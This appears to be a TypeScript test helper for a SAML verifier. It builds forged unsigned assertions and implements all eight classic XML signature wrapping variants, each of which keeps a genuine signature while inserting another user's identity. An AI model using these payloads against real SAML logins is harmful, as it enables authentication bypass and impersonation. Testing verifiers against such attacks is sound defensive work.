import { assertionXml, evil, nameId } from './message.ts'

/** What an attacker adds: an assertion of their own making, without a signature. */
export const forged = (id = '_evil') =>
  assertionXml({ assertion: { ID: id }, nameId: nameId(evil), attributes: '' })

/** The parts of a signed message of ours, by the text. */
export function partsOf(xml: string) {
  const cut = (pattern: RegExp) => pattern.exec(xml)?.[0] ?? ''
  const assertion = cut(/<saml:Assertion .*<\/saml:Assertion>/s)
  const signature = cut(/<ds:Signature .*?<\/ds:Signature>/s)
  return {
    assertion,
    signature,
    bareAssertion: assertion.replace(signature, ''),
    bareResponse: xml.replace(signature, ''),
    id: /<saml:Assertion [^>]*?ID="([^"]*)"/.exec(xml)?.[1] ?? '',
  }
}

/** The response with ids of its own, in which the person is another. */
const turned = (xml: string) =>
  xml
    .replace(/(<samlp:Response [^>]*?ID=")[^"]*/, '$1_evil1')
    .replace(/(<saml:Assertion [^>]*?ID=")[^"]*/, '$1_evil2')
    .replaceAll('>ada@', '>owner@')

const intoSignature = (signature: string, content: string) =>
  signature.replace('</ds:Signature>', `<ds:Object>${content}</ds:Object></ds:Signature>`)

/**
 * The eight classic ways to keep a genuine signature while another part is read (Somorovsky and others, "On Breaking
 * SAML", 2012). 1 and 2 wrap a signed response, the others a signed assertion.
 */
export const wrapping: Record<number, (xml: string) => string> = {
  1: xml => {
    const { signature, bareResponse } = partsOf(xml)
    return turned(xml).replace(signature, intoSignature(signature, bareResponse))
  },
  2: xml => {
    const { signature, bareResponse } = partsOf(xml)
    return turned(xml).replace(signature, bareResponse + signature)
  },
  3: xml => xml.replace('<saml:Assertion ', `${forged()}<saml:Assertion `),
  4: xml => {
    const { assertion } = partsOf(xml)
    return xml.replace(assertion, forged().replace('</saml:Assertion>', `${assertion}</saml:Assertion>`))
  },
  5: xml => {
    const { assertion, bareAssertion, signature } = partsOf(xml)
    return xml.replace(assertion, withSignature(signature) + bareAssertion)
  },
  6: xml => {
    const { assertion, bareAssertion, signature } = partsOf(xml)
    return xml.replace(assertion, withSignature(intoSignature(signature, bareAssertion)))
  },
  7: xml =>
    xml.replace('<saml:Assertion ', `<samlp:Extensions>${forged()}</samlp:Extensions><saml:Assertion `),
  8: xml => {
    const { assertion, bareAssertion, signature } = partsOf(xml)
    // As 6, but the copy stands first and the signature behind everything, where a search still finds it.
    const end = forged().replace(
      '</saml:Assertion>',
      `${intoSignature(signature, bareAssertion)}</saml:Assertion>`,
    )
    return xml.replace(assertion, end)
  },
}

const withSignature = (signature: string) => forged().replace('</saml:Issuer>', `</saml:Issuer>${signature}`)
